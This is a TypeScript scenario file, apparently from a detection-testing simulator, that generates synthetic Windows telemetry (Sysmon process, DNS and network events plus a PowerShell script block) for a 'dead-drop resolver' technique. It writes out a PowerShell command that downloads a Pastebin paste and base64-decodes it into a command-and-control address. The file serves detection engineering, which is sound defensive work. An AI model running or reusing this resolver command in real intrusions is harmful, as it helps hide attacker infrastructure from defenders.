/**
 * Seed test 1: PowerShell reads a Pastebin paste that holds the real C2 address (a dead-drop
 * resolver). Signals: Sysmon 1 (powershell.exe, `Net.WebClient` and pastebin.com on its
 * command line), Sysmon 22 for pastebin.com, Sysmon 3 to it on 443, and the PowerShell 4104
 * script block with the whole command.
 */

import { CONHOST, POWERSHELL, powershellCommand, type Scenario } from './scenario.js';

export const pastebinDeadDrop: Scenario = {
  id: 'pastebin-dead-drop',
  title: 'PowerShell dead-drop resolver reading a Pastebin paste',
  platform: 'windows',
  origin: 'seed test 1',
  expect: { fileName: 'powershell.exe', host: 'pastebin.com' },
  build(w, fleet, t) {
    const base = fleet.windows.get(fleet.victim)!;
    const paste = w.rng.token(8);
    const script =
      `$r = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/${paste}'); ` +
      `$c2 = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.Trim()))`;
    const ps = w.spawn(t, base.explorer, POWERSHELL, powershellCommand(script));
    w.spawn(t + 14, ps, CONHOST, `${CONHOST} 0xffffffff -ForceV1`);
    w.script(t + 380, ps, script);
    w.reach(t + 610, ps, 'pastebin.com');
  },
};
